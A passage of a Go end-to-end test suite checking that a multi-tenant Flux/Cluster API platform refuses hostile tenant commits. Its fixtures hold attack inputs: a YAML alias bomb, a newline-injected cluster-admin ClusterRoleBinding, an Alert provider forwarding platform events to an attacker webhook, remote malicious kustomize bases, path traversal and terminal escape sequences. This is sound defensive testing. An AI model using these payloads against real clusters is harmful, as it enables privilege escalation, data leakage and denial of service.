//go:build e2e

package e2e

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
)

// Two tenants: the default one, and team-b with its own directory, prefix and a limit of one
// cluster, on which no application of the platform may be placed (its quota holds exactly the
// releases and units of one cluster).
const tenantsValues = `workload_clusters:
  tenants:
    workload-clusters:
      name_prefix: wl
    team-b:
      name_prefix: b-
      path: ./clusters/management/team-b
      limits:
        clusters: 1
        applications: 0
`

// workloadCluster is a tenant's HelmRelease of a cluster, with extra lines in spec (indented by 2)
// and in spec.values.cluster (indented by 6).
func workloadCluster(name, spec, cluster string) string {
	return fmt.Sprintf(`apiVersion: helm.toolkit.fluxcd.io/v2
kind: HelmRelease
metadata:
  name: %s
spec:
%s  values:
    cluster:
      name: %s
      control_plane:
        replicas: 1
      workers:
        replicas: 1
      network:
        pods_cidr: 10.48.0.0/16
        services_cidr: 10.160.0.0/12
%s`, name, spec, name, cluster)
}

// hostileCommit is one class of attack: the files it commits in a tenant's directory (path ->
// content, relative to it), and a part of the refusal the tenant's Kustomization must show.
type hostileCommit struct {
	class  string
	tenant string // default: workload-clusters
	files  map[string]string
	shows  []string // one of these
	// release, if set, is the HelmRelease whose status shows the refusal (the tenant's
	// directory itself is applied).
	release string
	// neutralized, if set, is a HelmRelease that is applied with the platform's valuesFrom only.
	neutralized string
	// leftOut: the tenant's source leaves the files out (kustomization files), so the commit is
	// applied as nothing: its revision applied, Ready, and no object made.
	leftOut bool
	// gate: the platform's gate refuses the directory before any controller parses it; the
	// reason shows in the tenant's ExternalArtifact (and its Kustomization applies nothing new).
	gate bool
	// isolation: while the commit is in git, the platform's controllers do not restart, its units
	// stay Ready, and another tenant's commit is applied within its usual time.
	isolation bool
	// shard, if set, is a HelmRelease applied with the tenant's own shard label whatever it wrote.
	shard string
}

// aliasBomb is a small YAML file whose aliases stand for billions of values: kustomize expands
// them all.
var aliasBomb = func() string {
	var b strings.Builder
	b.WriteString("apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: bomb\ndata:\n  l0: &l0 [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n")
	for i := 1; i <= 9; i++ {
		fmt.Fprintf(&b, "  l%d: &l%d [*l%d,*l%d,*l%d,*l%d,*l%d,*l%d,*l%d,*l%d,*l%d]\n", i, i, i-1, i-1, i-1, i-1, i-1, i-1, i-1, i-1, i-1)
	}
	return b.String()
}()

// smallAliasBomb is a file whose aliases add about 44,000 values: within the bound alone, past it
// three times over in one directory (kustomize-controller builds the directory whole).
var smallAliasBomb = func() string {
	doc := "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: small\ndata:\n  a: &a [x,x,x,x,x,x,x,x,x,x,x,x,x,x]\n"
	for i, prev := 1, "a"; i <= 3; i++ {
		name := string(rune('a' + i))
		doc += "  " + name + ": &" + name + " [" + strings.TrimSuffix(strings.Repeat("*"+prev+",", 14), ",") + "]\n"
		prev = name
	}
	return doc
}()

// manyFiles is a directory of n small files.
func manyFiles(n int) map[string]string {
	files := map[string]string{}
	for i := range n {
		files[fmt.Sprintf("many/f%04d.yaml", i)] = "# nothing\n"
	}
	return files
}

func hostileCommits() []hostileCommit {
	return []hostileCommit{
		{class: "schema validation switched off", files: map[string]string{"x/cluster.yaml": workloadCluster("wlx", "  install:\n    disableSchemaValidation: true\n  upgrade:\n    disableSchemaValidation: true\n", "")},
			shows: []string{"spec.install", "spec.upgrade"}},
		{class: "a forced upgrade with CRDs replaced", files: map[string]string{"x/cluster.yaml": workloadCluster("wlx", "  upgrade:\n    force: true\n    crds: CreateReplace\n", "")},
			shows: []string{"spec.upgrade"}},
		{class: "a release name and labels of its own", files: map[string]string{"x/cluster.yaml": workloadCluster("wlx", "  releaseName: cluster-init\n  commonMetadata:\n    labels:\n      cluster.x-k8s.io/cluster-name: management\n", "")},
			shows: []string{"spec.releaseName", "spec.commonMetadata"}},
		{class: "a dependency in the platform's namespace", files: map[string]string{"x/cluster.yaml": workloadCluster("wlx", "  dependsOn:\n    - name: cluster-init\n      namespace: cluster-init\n", "")},
			shows: []string{"spec.dependsOn"}},
		// The platform's patch replaces a tenant's valuesFrom list whole (a merge patch of a list):
		// what is applied has the platform's only, so it is a valid cluster (the policy's refusal of
		// such an entry is shown by the envtest cases, where nothing patches it first).
		{class: "values from a Secret into a path of its choice", files: map[string]string{"x/cluster.yaml": workloadCluster("wlx", "  valuesFrom:\n    - kind: Secret\n      name: cluster-init-git-auth\n      targetPath: cluster.name\n", "")},
			neutralized: "wlx"},
		{class: "a document injected through the service domain", files: map[string]string{"x/cluster.yaml": workloadCluster("wlx", "", "        service_domain: \"cluster.local\\n---\\napiVersion: rbac.authorization.k8s.io/v1\\nkind: ClusterRoleBinding\\nmetadata:\\n  name: pwned\\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}\\nsubjects: [{kind: ServiceAccount, name: tenant, namespace: workload-clusters}]\"\n")},
			shows: []string{"spec.values.cluster.network"}},
		{class: "a document injected through a flavor", files: map[string]string{"x/cluster.yaml": strings.Replace(workloadCluster("wlx", "", ""), "      workers:\n        replicas: 1\n", "      workers:\n        replicas: 1\n        flavor: \"m1\\n---\\nkind: Secret\"\n", 1)},
			shows: []string{"flavor"}},
		{class: "the platform's units in its values", files: map[string]string{"x/cluster.yaml": strings.Replace(workloadCluster("wlx", "", ""), "  values:\n", "  values:\n    units:\n      capi:\n        contexts: [workload]\n", 1)},
			shows: []string{"spec.values.units"}},
		{class: "a bare Cluster", files: map[string]string{"x/cluster.yaml": "apiVersion: cluster.x-k8s.io/v1beta2\nkind: Cluster\nmetadata:\n  name: wlx\nspec: {}\n"},
			shows: []string{"forbidden"}},
		{class: "a Cluster referencing the management cluster's control plane", files: map[string]string{"x/cluster.yaml": "apiVersion: cluster.x-k8s.io/v1beta2\nkind: Cluster\nmetadata:\n  name: wlx\nspec:\n  controlPlaneRef: {apiGroup: controlplane.cluster.x-k8s.io, kind: KubeadmControlPlane, name: management-control-plane}\n  infrastructureRef: {apiGroup: infrastructure.cluster.x-k8s.io, kind: DockerCluster, name: management}\n"},
			shows: []string{"forbidden"}},
		{class: "the management cluster's name", files: map[string]string{"management/cluster.yaml": workloadCluster("management", "", "")},
			shows: []string{"is the name of a cluster of the platform"}},
		{class: "another tenant's cluster's name", files: map[string]string{"b-one/cluster.yaml": workloadCluster("b-one", "", "")},
			shows: []string{"are named wl"}},
		// Team-b's quota holds the releases of one cluster (b-one's and its definitions'): a second
		// cluster's release is refused as the tenant's directory is applied.
		{class: "a cluster over the tenant's quota", tenant: "team-b", files: map[string]string{"b-two/cluster.yaml": workloadCluster("b-two", "", "")},
			shows: []string{"exceeded quota"}},
		{class: "400 workers", files: map[string]string{"x/cluster.yaml": strings.Replace(workloadCluster("wlx", "", ""), "      workers:\n        replicas: 1\n", "      workers:\n        replicas: 400\n", 1)},
			shows: []string{"spec.values.cluster.workers"}},
		// Kustomization files never reach kustomize-controller (it would fetch a remote resource
		// from inside the cluster even with --no-remote-bases): had this one been read, the
		// build would fail on the unknown host.
		{class: "a remote base", files: map[string]string{"kustomization.yaml": "resources:\n  - https://git.example/evil//base?ref=main\n"}, leftOut: true},
		{class: "a remote resource", files: map[string]string{"x/kustomization.yaml": "resources:\n  - https://git.example/evil/objects.yaml\n"}, leftOut: true},
		{class: "a ../ path to the platform's values", files: map[string]string{"kustomization.yaml": "configMapGenerator:\n  - name: leak\n    files:\n      - ../../../environment-values/kubeadm-capd/values.yaml\n"}, leftOut: true},
		{class: "an object in another namespace", files: map[string]string{"x/crb.yaml": "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: pwned\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}\nsubjects: [{kind: ServiceAccount, name: tenant, namespace: workload-clusters}]\n"},
			shows: []string{"forbidden"}},
		{class: "its own admission parameters", files: map[string]string{"x/params.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: cluster-init-tenant\ndata:\n  workers_replicas: \"1000\"\n"},
			shows: []string{"forbidden"}},
		// The notifications: a Receiver that makes the platform's source fetch at the tenant's call,
		// an Alert that sends the platform's events to the tenant's webhook, credentials of its own.
		{class: "a Receiver of the platform's source", files: map[string]string{"x/receiver.yaml": "apiVersion: notification.toolkit.fluxcd.io/v1\nkind: Receiver\nmetadata:\n  name: pwn\nspec:\n  type: generic\n  secretRef: {name: wlx-kubeconfig}\n  resources:\n    - {apiVersion: source.toolkit.fluxcd.io/v1, kind: GitRepository, name: cluster-init, namespace: cluster-init}\n"},
			shows: []string{"forbidden"}},
		{class: "an Alert of the platform's events to its own webhook", files: map[string]string{"x/alert.yaml": "apiVersion: notification.toolkit.fluxcd.io/v1beta3\nkind: Provider\nmetadata:\n  name: pwn\nspec:\n  type: generic\n  address: http://attacker.invalid/hook\n---\napiVersion: notification.toolkit.fluxcd.io/v1beta3\nkind: Alert\nmetadata:\n  name: pwn\nspec:\n  providerRef: {name: pwn}\n  eventSources:\n    - {kind: Kustomization, name: '*', namespace: cluster-init}\n"},
			shows: []string{"forbidden"}},
		{class: "credentials in its values", files: map[string]string{"x/cluster.yaml": strings.Replace(workloadCluster("wlx", "", ""), "  values:\n", "  values:\n    credentials:\n      openstack: {clouds_yaml: \"clouds: {}\"}\n", 1)},
			shows: []string{"spec.values.credentials"}},
		{class: "a Kustomization of its own (as the controller)", files: map[string]string{"x/ks.yaml": "apiVersion: kustomize.toolkit.fluxcd.io/v1\nkind: Kustomization\nmetadata:\n  name: pwn\nspec:\n  interval: 1m\n  path: ./\n  prune: false\n  sourceRef: {kind: GitRepository, name: cluster-init, namespace: cluster-init}\n"},
			shows: []string{"forbidden"}},
		// What a tenant can cost the platform (docs/tenants.md): each is refused, costs its own
		// shard at most, and another tenant's commit goes on as usual meanwhile.
		{class: "a YAML alias bomb (billions of values)", files: map[string]string{"x/bomb.yaml": aliasBomb}, gate: true, isolation: true,
			shows: []string{"aliases"}},
		{class: "small alias bombs, each within the bound", files: map[string]string{"x/1.yaml": smallAliasBomb, "x/2.yaml": smallAliasBomb, "x/3.yaml": smallAliasBomb}, gate: true, isolation: true,
			shows: []string{"in the directory"}},
		{class: "a file of 1 MiB", files: map[string]string{"x/big.yaml": "# " + strings.Repeat("x", 1<<20) + "\n"}, gate: true, isolation: true,
			shows: []string{"x/big.yaml", "bytes"}},
		{class: "2,100 files", files: manyFiles(2100), gate: true, isolation: true,
			shows: []string{"files"}},
		{class: "YAML nested 5,000 deep", files: map[string]string{"x/deep.yaml": "a: " + strings.Repeat("[", 5000) + strings.Repeat("]", 5000) + "\n"}, gate: true, isolation: true,
			shows: []string{"x/deep.yaml: nests deeper"}},
		{class: "more releases than its clusters make", tenant: "team-b", files: map[string]string{"b-x/cluster.yaml": workloadCluster("b-x", "", ""), "b-y/cluster.yaml": workloadCluster("b-y", "", ""), "b-z/cluster.yaml": workloadCluster("b-z", "", "")},
			isolation: true, shows: []string{"exceeded quota"}},
		{class: "an application's labels on its release", files: map[string]string{"x/cluster.yaml": strings.Replace(workloadCluster("wlx", "", ""), "  name: wlx\n", "  name: wlx\n  labels:\n    apps.cluster-init.dev/application: cluster-init.hello\n    apps.cluster-init.dev/cluster: wlx\n", 1)},
			isolation: true, shows: []string{"apps.cluster-init.dev/application"}},
		{class: "the platform's own label on its release", files: map[string]string{"x/cluster.yaml": strings.Replace(workloadCluster("wlx", "", ""), "  name: wlx\n", "  name: wlx\n  labels:\n    cluster-init.dev/platform: \"true\"\n", 1)},
			isolation: true, shows: []string{"cluster-init.dev/platform"}},
		{class: "control sequences for the operator's terminal", files: map[string]string{"x/cluster.yaml": strings.Replace(workloadCluster("wlx", "", ""), "  values:\n", "  values:\n    \"\\e[2J\\e[H\\e]0;pwned\\a\\u009b31mall good\\r\": 1\n", 1)},
			// kustomize-controller's YAML refuses it before the API server would.
			isolation: true, shows: []string{"spec.values", "control characters are not allowed"}},
		// Flux's own mechanism sets the tenant's shard on what its directory applies, whatever the
		// tenant wrote: its release is reconciled by its shard, not by team-b's nor the platform's.
		{class: "another shard's label on its release", files: map[string]string{"x/cluster.yaml": strings.Replace(workloadCluster("wlx", "", ""), "  name: wlx\n", "  name: wlx\n  labels:\n    sharding.fluxcd.io/key: team-b\n", 1)},
			isolation: true, shard: "wlx"},
	}
}

// A hostile tenant, by commits: each class of attack is refused with a message in the tenant's
// Kustomization, nothing outside the tenants' namespaces changes, the management cluster's
// machines and load balancer stay as they were, another tenant's cluster stays Available, and a
// valid cluster committed next still comes up.
func TestAHostileTenantIsRefused(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 100*time.Minute)
	defer cancel()
	var teamC *repository
	r, _ := bootstrapFromGit(t, ctx, func(r *repository) {
		teamC = tenantRepository(t, r)
		values := readFile(t, filepath.Join(r.dir, "environment-values", env, "values.yaml"))
		r.write(t, "environment-values/"+env+"/values.yaml", values+tenantsValues+teamCValues(gitServer(t, "url", teamCRepository)))
	})
	kc := managementKubeconfig()

	// Team-b's cluster, the one every attack must leave alone.
	t.Logf("push -> b-one Available: %s", pushCluster(t, kc, r, "clusters/management/team-b", "team-b", "b-one"))

	outside := objectsOutsideTenants(t, kc)
	management := containerIDs(t, "management")
	if len(management) < 3 {
		t.Fatalf("the management cluster's containers: %v", management)
	}
	// What the isolation checks compare with: the platform's controllers and units as they are,
	// and how long another tenant's commit takes to be applied when nobody attacks.
	controllers := platformControllers(t, kc)
	units := readyUnits(t, kc)
	usual := otherTenantsCommit(t, kc, r, "")
	t.Logf("another tenant's commit applied in %s (no attack)", usual)
	t.Logf("the Flux controllers' memory, with b-one: %s", fluxMemory(t, kc))

	// CLUSTER_INIT_E2E_HOSTILE (a regular expression) tries only the classes it matches: a
	// developer's second look at one class, not a replacement for the whole run.
	only := regexp.MustCompile(os.Getenv("CLUSTER_INIT_E2E_HOSTILE"))
	for _, h := range hostileCommits() {
		if !only.MatchString(h.class) {
			continue
		}
		tenant := h.tenant
		if tenant == "" {
			tenant = "workload-clusters"
		}
		dir := map[string]string{"workload-clusters": "clusters/management/workload-clusters", "team-b": "clusters/management/team-b"}[tenant]
		for rel, content := range h.files {
			r.write(t, filepath.Join(dir, rel), content)
		}
		refusedBefore := ""
		if h.gate {
			refusedBefore = kubectlQuiet(kc, "-n", tenant, "get", "externalartifact", "workload-clusters", "-o", `jsonpath={.status.conditions[?(@.type=="Ready")].message}`)
		}
		pushed := r.commit(t, "hostile: "+h.class)
		sha := r.git(t, "rev-parse", "HEAD")
		fetchTenantSources(t, kc)
		var message string
		// A refusal in a release comes after two installs (the tenant's release, then the
		// <cluster>-cluster release it makes), each a chart built and installed: 2.5 minutes on
		// a quiet test bed, more on a busy one.
		wait := 3 * time.Minute
		if h.release != "" {
			wait = 6 * time.Minute
		}
		waitFor(t, wait, "the refusal of "+h.class, func() bool {
			if h.gate {
				out := kubectlQuiet(kc, "-n", tenant, "get", "externalartifact", "workload-clusters", "-o",
					`jsonpath={.status.conditions[?(@.type=="Ready")].reason}{"\n"}{.status.conditions[?(@.type=="Ready")].message}`)
				reason, msg, _ := strings.Cut(out, "\n")
				message = msg
				// This commit's refusal, or a later one's (another tenant's commit came after),
				// not the one before.
				if !strings.Contains(msg, "revision main@sha1:") || strings.Contains(msg, refusedBefore) && refusedBefore != "" {
					return false
				}
				// And in the tenant's Kustomization's status, beside kustomize-controller's conditions.
				marked := kubectlQuiet(kc, "-n", tenant, "get", "kustomization", "workload-clusters", "-o", `jsonpath={.status.conditions[?(@.type=="SourceRefused")].message}`)
				return reason == "ArtifactRefused" && marked == msg && slices.ContainsFunc(h.shows, func(s string) bool { return strings.Contains(msg, s) })
			}
			if h.shard != "" {
				message = kubectlQuiet(kc, "-n", tenant, "get", "helmrelease", h.shard, "-o", `jsonpath={.metadata.labels.sharding\.fluxcd\.io/key}`)
				if message == "" {
					return false
				}
				if message != tenant {
					t.Errorf("%s: applied with the shard label %q", h.class, message)
				}
				return true
			}
			if h.neutralized != "" {
				message = kubectlQuiet(kc, "-n", tenant, "get", "helmrelease", h.neutralized, "-o", `jsonpath={.spec.valuesFrom}`)
				if message == "" {
					return false
				}
				if message != `[{"kind":"ConfigMap","name":"workload-cluster-platform","valuesKey":"values.yaml"}]` {
					t.Errorf("%s: applied with valuesFrom %s", h.class, message)
				}
				return true
			}
			if h.release != "" {
				message = kubectlQuiet(kc, "-n", tenant, "get", "helmrelease", h.release, "-o", `jsonpath={.status.conditions[?(@.type=="Ready")].message}`)
				return slices.ContainsFunc(h.shows, func(s string) bool { return strings.Contains(message, s) })
			}
			out := kubectlQuiet(kc, "-n", tenant, "get", "kustomization", "workload-clusters", "-o",
				`jsonpath={.status.lastAttemptedRevision}{"\n"}{.status.conditions[?(@.type=="Ready")].status}{"\n"}{.status.conditions[?(@.type=="Ready")].message}`)
			lines := strings.SplitN(out, "\n", 3)
			want := map[bool]string{true: "True", false: "False"}[h.leftOut]
			if len(lines) < 3 || !strings.HasSuffix(lines[0], sha) || lines[1] != want {
				return false
			}
			message = lines[2]
			return true
		})
		if h.leftOut {
			if got := kubectlQuiet(kc, "-n", tenant, "get", "helmreleases,configmaps", "-l", "!cluster-init.dev/platform", "-o", "name"); strings.Contains(got, "leak") || strings.Contains(got, "helmrelease") {
				t.Errorf("%s: left out, but the tenant's namespace has %s", h.class, got)
			}
			t.Logf("%-50s left out in %4.1fs: %.160s", h.class, time.Since(pushed).Seconds(), message)
		} else if h.neutralized == "" && h.shard == "" && !slices.ContainsFunc(h.shows, func(s string) bool { return strings.Contains(message, s) }) {
			t.Errorf("%s: refused, but the message names none of %q: %s", h.class, h.shows, message)
		}
		switch {
		case h.neutralized != "" || h.shard != "":
			t.Logf("%-50s applied as the platform makes it in %4.1fs: %.160q", h.class, time.Since(pushed).Seconds(), message)
		case !h.leftOut:
			t.Logf("%-50s refused in %4.1fs: %.160q", h.class, time.Since(pushed).Seconds(), message)
		}
		if h.isolation {
			isolated(t, kc, r, h.class, tenant, controllers, units, usual)
		}
		// Undo it for the next one.
		targets := map[string]bool{}
		for rel := range h.files {
			target := filepath.Join(dir, rel)
			if d := filepath.Dir(rel); d != "." {
				target = filepath.Join(dir, d)
			}
			targets[target] = true
		}
		for target := range targets {
			r.git(t, "rm", "-rq", target)
		}
		r.commit(t, "undo: "+h.class)
		if h.neutralized != "" || h.shard != "" {
			// Applied (neutralized): its cluster goes before the next class is tried, so that
			// what the next one leaves is its own.
			fetchTenantSources(t, kc)
			waitFor(t, 6*time.Minute, "the releases of "+h.class+" gone", func() bool {
				return kubectlQuiet(kc, "-n", tenant, "get", "helmreleases", "-o", "name") == ""
			})
		}
	}
	fetchTenantSources(t, kc)
	var states []string
	waitFor(t, 3*time.Minute, "the tenants' Kustomizations Ready again", func() bool {
		states = nil
		for _, ns := range tenantNamespaces {
			states = append(states, ns+": "+kubectlQuiet(kc, "-n", ns, "get", "kustomization", "workload-clusters",
				"-o", `jsonpath={.status.conditions[?(@.type=="Ready")].status} {.status.conditions[?(@.type=="Ready")].message}`))
		}
		t.Logf("the tenants' Kustomizations: %s", strings.Join(states, "; "))
		return !slices.ContainsFunc(states, func(s string) bool { return !strings.Contains(s, ": True ") })
	})

	// Nothing outside the tenants' namespaces came or went; the management cluster's machines and
	// load balancer are the same containers; team-b's cluster is still Available.
	after := objectsOutsideTenants(t, kc)
	for _, o := range after {
		if !slices.Contains(outside, o) {
			t.Errorf("created outside the tenants' namespaces: %s", o)
		}
	}
	for _, o := range outside {
		// kubeadm's bootstrap tokens of the management cluster's joins expire (15 minutes) and
		// its token cleaner deletes them: gone by their own.
		if strings.HasPrefix(o, "secrets kube-system/bootstrap-token-") {
			continue
		}
		if !slices.Contains(after, o) {
			t.Errorf("gone from outside the tenants' namespaces: %s", o)
		}
	}
	if now := containerIDs(t, "management"); !slices.Equal(now, management) {
		t.Errorf("the management cluster's containers changed: %v -> %v", management, now)
	}
	if got := kubectlQuiet(kc, "-n", "team-b", "get", "cluster", "b-one", "-o", `jsonpath={.status.conditions[?(@.type=="Available")].status}`); got != "True" {
		t.Errorf("team-b's cluster b-one Available: %q", got)
	}
	if got := kubectlQuiet(kc, "-n", "workload-clusters", "get", "helmreleases", "-o", "name"); got != "" {
		t.Errorf("the default tenant has releases after the refused commits: %s", got)
	}

	t.Logf("the Flux controllers' memory, after the attacks: %s", fluxMemory(t, kc))

	// A valid cluster, committed next, comes up.
	t.Logf("push -> wl2 Available: %s", pushCluster(t, kc, r, "clusters/management/workload-clusters", "workload-clusters", "wl2"))
	// Two cores run four clusters otherwise: wl2 goes as team-c's comes.
	r.git(t, "rm", "-rq", "clusters/management/workload-clusters/wl2")
	r.commit(t, "remove wl2")
	fetchTenantSources(t, kc)

	theirOwnRepository(t, kc, r, teamC)
}

// platformControllers are the platform's kustomize-controller and helm-controller pods, each with
// its restarts ("<uid>:<restarts>"): a pod replaced or restarted shows as another string.
func platformControllers(t *testing.T, kc string) string {
	t.Helper()
	out := kubectlQuiet(kc, "-n", "flux-system", "get", "pods", "-l", "app in (kustomize-controller,helm-controller)", "-o",
		`jsonpath={range .items[*]}{.metadata.uid}:{.status.containerStatuses[0].restartCount} {end}`)
	if out == "" {
		t.Fatal("no platform controllers found")
	}
	return out
}

// readyUnits are the platform's Kustomizations and HelmReleases (its namespace) that are Ready.
func readyUnits(t *testing.T, kc string) []string {
	t.Helper()
	var ready []string
	for _, kind := range []string{"kustomizations", "helmreleases"} {
		out := kubectlQuiet(kc, "-n", "cluster-init", "get", kind, "-o",
			`jsonpath={range .items[*]}{.metadata.name}={.status.conditions[?(@.type=="Ready")].status}{"\n"}{end}`)
		for _, l := range strings.Split(out, "\n") {
			if name, ok := strings.CutSuffix(l, "=True"); ok {
				ready = append(ready, kind+"/"+name)
			}
		}
	}
	slices.Sort(ready)
	return ready
}

// otherTenantsCommit is a commit of another tenant than attacker (team-b's: a comment in b-one's
// file; the default tenant's: a note in its directory): it returns how long that tenant's
// Kustomization took to apply it.
func otherTenantsCommit(t *testing.T, kc string, r *repository, attacker string) time.Duration {
	t.Helper()
	other, file, content := "team-b", "clusters/management/team-b/b-one/cluster.yaml", workloadCluster("b-one", "", "")
	if attacker == "team-b" {
		other, file, content = "workload-clusters", "clusters/management/workload-clusters/NOTES.md", "# The default tenant's notes.\n"
	}
	r.write(t, file, content+fmt.Sprintf("# touched %d\n", time.Now().UnixNano()))
	pushed := r.commit(t, other+": touch")
	sha := r.git(t, "rev-parse", "HEAD")
	fetchTenantSources(t, kc)
	waitFor(t, 5*time.Minute, other+"'s commit applied", func() bool {
		return strings.HasSuffix(kubectlQuiet(kc, "-n", other, "get", "kustomization", "workload-clusters", "-o", "jsonpath={.status.lastAppliedRevision}"), sha)
	})
	return time.Since(pushed).Round(time.Second)
}

// isolated checks, while a hostile commit is in git, that it costs only its tenant: another
// tenant's commit is applied within its usual time (plus the 5 s of a look and a poll's worth),
// the platform's controllers did not restart, and its units that were Ready are Ready.
func isolated(t *testing.T, kc string, r *repository, class, attacker, controllers string, units []string, usual time.Duration) {
	t.Helper()
	took := otherTenantsCommit(t, kc, r, attacker)
	if limit := 2*usual + 20*time.Second; took > limit {
		t.Errorf("%s: another tenant's commit took %s to be applied, usually %s", class, took, usual)
	}
	if now := platformControllers(t, kc); now != controllers {
		t.Errorf("%s: the platform's controllers restarted: %s -> %s", class, controllers, now)
	}
	// Every commit is a new revision of the platform's source too, which its units reconcile
	// (Ready Unknown meanwhile): each is Ready again within its usual time, none fails.
	var notReady []string
	waitFor(t, 2*time.Minute, "the platform's units Ready", func() bool {
		now := readyUnits(t, kc)
		notReady = nil
		for _, u := range units {
			if !slices.Contains(now, u) {
				notReady = append(notReady, u)
			}
		}
		return len(notReady) == 0
	})
	status := bootstrapOK(t, "status", env)
	if strings.ContainsFunc(status, func(c rune) bool { return c < 0x20 && c != '\n' || c == 0x7f || c >= 0x80 && c < 0xa0 }) {
		t.Errorf("%s: bootstrap status printed a control character: %q", class, status)
	}
	t.Logf("%-50s isolated: another tenant's commit applied in %s (usually %s), the platform's controllers and units as they were", class, took, usual)
}

// fluxMemory is the working set of each Flux controller of the management cluster (the
// platform's and the tenants' shards'), as the kubelets report it.
func fluxMemory(t *testing.T, kc string) string {
	t.Helper()
	var out []string
	for _, node := range strings.Fields(kubectl(t, kc, "get", "nodes", "-o", "jsonpath={.items[*].metadata.name}")) {
		var summary struct {
			Pods []struct {
				PodRef struct{ Name, Namespace string } `json:"podRef"`
				Memory struct {
					WorkingSetBytes uint64 `json:"workingSetBytes"`
				} `json:"memory"`
			} `json:"pods"`
		}
		if err := json.Unmarshal([]byte(kubectl(t, kc, "get", "--raw", "/api/v1/nodes/"+node+"/proxy/stats/summary")), &summary); err != nil {
			t.Fatalf("the kubelet's summary of %s: %v", node, err)
		}
		for _, p := range summary.Pods {
			if p.PodRef.Namespace == "flux-system" || strings.HasPrefix(p.PodRef.Name, "tenant-sources-") {
				out = append(out, fmt.Sprintf("%s %.0f MiB", p.PodRef.Name, float64(p.Memory.WorkingSetBytes)/(1<<20)))
			}
		}
	}
	slices.Sort(out)
	return strings.Join(out, ", ")
}

// tenantNamespaces are the tenants of the test.
var tenantNamespaces = []string{"workload-clusters", "team-b", "team-c"}

// teamCRepository is the git server's repository of team-c, a tenant with a repository of its own.
const teamCRepository = "team-c"

// teamCValues: team-c reads its own repository, with credentials of its own; its people are a group.
func teamCValues(url string) string {
	return `    team-c:
      name_prefix: c-
      repository:
        url: ` + url + `
      readers_group: team-c-people
      limits:
        clusters: 1
`
}

// tenantRepository creates team-c's repository on the git server with a first commit, and gives
// the platform's environment its credentials (the secrets file encrypted again).
func tenantRepository(t *testing.T, platform *repository) *repository {
	t.Helper()
	gitServer(t, "create", teamCRepository)
	lines := strings.Split(gitServer(t, "credentials"), "\n")
	token := strings.TrimSpace(readFile(t, lines[1]))
	c := &repository{dir: t.TempDir()}
	c.remote = strings.Replace(gitServer(t, "url", teamCRepository), "http://", "http://"+lines[0]+":"+token+"@", 1)
	c.git(t, "init", "-q", "-b", "main")
	c.write(t, "README.md", "team-c's workload clusters: one directory per cluster.\n")
	c.replace(t, "team-c's repository")
	platform.writeSecrets(t, "  tenants:\n    team-c:\n      git:\n        username: "+lines[0]+"\n        password: "+token+"\n")
	return c
}

// theirOwnRepository: team-c's cluster comes from a push to team-c's repository, with the
// platform's rules (a hostile commit there is refused as in the platform's); its people get its
// kubeconfig with their own identity, and not team-b's; a commit that removes it deletes it.
func theirOwnRepository(t *testing.T, kc string, platform, c *repository) {
	t.Helper()
	if got := kubectlQuiet(kc, "-n", "cluster-init", "get", "secret", "tenant-team-c-git", "-o", "name"); got == "" {
		t.Fatal("no Secret of team-c's credentials in the platform's namespace")
	}
	t.Logf("push to team-c's own repository -> c-one Available: %s", pushCluster(t, kc, c, ".", "team-c", "c-one"))

	// The platform's rules hold in the tenant's repository: a name of another tenant's.
	c.write(t, "b-two/cluster.yaml", workloadCluster("b-two", "", ""))
	pushed := c.commit(t, "hostile: another tenant's name")
	sha := c.git(t, "rev-parse", "HEAD")
	fetchTenantSources(t, kc)
	var message string
	waitFor(t, 3*time.Minute, "the refusal of team-c's b-two", func() bool {
		out := strings.SplitN(kubectlQuiet(kc, "-n", "team-c", "get", "kustomization", "workload-clusters", "-o",
			`jsonpath={.status.lastAttemptedRevision}{"\n"}{.status.conditions[?(@.type=="Ready")].status}{"\n"}{.status.conditions[?(@.type=="Ready")].message}`), "\n", 3)
		if len(out) < 3 || !strings.HasSuffix(out[0], sha) || out[1] != "False" {
			return false
		}
		message = out[2]
		return true
	})
	if !strings.Contains(message, "are named c-") {
		t.Errorf("team-c's b-two: refused, but not for its name: %s", message)
	}
	t.Logf("%-50s refused in %4.1fs: %.160s", "another tenant's name, from its own repository", time.Since(pushed).Seconds(), message)
	c.git(t, "rm", "-rq", "b-two")
	c.commit(t, "undo")

	// Its people, with their own identity (a kubeconfig impersonating a member of its group).
	people := impersonating(t, kc, "carol", "team-c-people")
	out := filepath.Join(t.TempDir(), "c-one.kubeconfig")
	bootstrapOK(t, "kubeconfig", env, "c-one", "--namespace", "team-c", "--kubeconfig", people, "--output", out)
	if nodes := kubectl(t, out, "get", "nodes", "-o", "name"); !strings.Contains(nodes, "c-one") {
		t.Errorf("c-one's nodes with the kubeconfig its people got: %q", nodes)
	}
	if st, err := os.Stat(out); err != nil || st.Mode().Perm() != 0o600 {
		t.Errorf("the kubeconfig file: %v %v, want mode 0600", st.Mode(), err)
	}
	denied := bootstrap(t, context.Background(), nil, "kubeconfig", env, "b-one", "--namespace", "team-b", "--kubeconfig", people, "--output", filepath.Join(t.TempDir(), "b"))
	if denied.err == nil || !strings.Contains(denied.output.String(), "may not read") {
		t.Errorf("team-c's people got team-b's kubeconfig: %v\n%s", denied.err, denied.output.String())
	}
	// The operator finds it by its name alone.
	bootstrapOK(t, "kubeconfig", env, "c-one", "--output", filepath.Join(t.TempDir(), "op.kubeconfig"))

	// A commit that removes it deletes it.
	c.git(t, "rm", "-rq", "c-one")
	pushed = c.commit(t, "remove c-one")
	fetchTenantSources(t, kc)
	waitFor(t, 10*time.Minute, "c-one deleted", func() bool {
		return kubectlQuiet(kc, "-n", "team-c", "get", "clusters", "-o", "name") == "" && len(containerIDs(t, "c-one")) == 0
	})
	t.Logf("push removing c-one -> its cluster and containers gone: %s", time.Since(pushed).Round(time.Second))
}

// pushCluster commits a workload cluster into dir of repo as tenant, and waits for it to be
// Available; it returns how long that took from the push.
func pushCluster(t *testing.T, kc string, repo *repository, dir, tenant, name string) time.Duration {
